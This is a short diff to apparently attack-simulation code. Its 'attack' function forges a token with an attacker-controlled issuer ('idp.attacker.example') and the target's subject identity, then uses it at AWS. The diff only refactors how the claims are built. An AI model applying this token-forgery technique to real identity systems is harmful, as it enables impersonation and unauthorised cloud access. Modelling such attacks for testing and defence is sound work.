@@ -12,10 +12,7 @@ def attack(foothold: Taken) -> Loot:
     """Issue oneself a token with the target's subject from an issuer of one's own."""
     token = forgery.signed_by_attacker(
         foothold.token,
-        {
-            "iss": "https://idp.attacker.example",
-            "sub": foothold.knows["target.spiffe_id"],
-        },
+        {"iss": "https://idp.attacker.example", **forgery.as_target(foothold)},
     )
     return Loot((forgery.use_at_aws(token, foothold),))
 
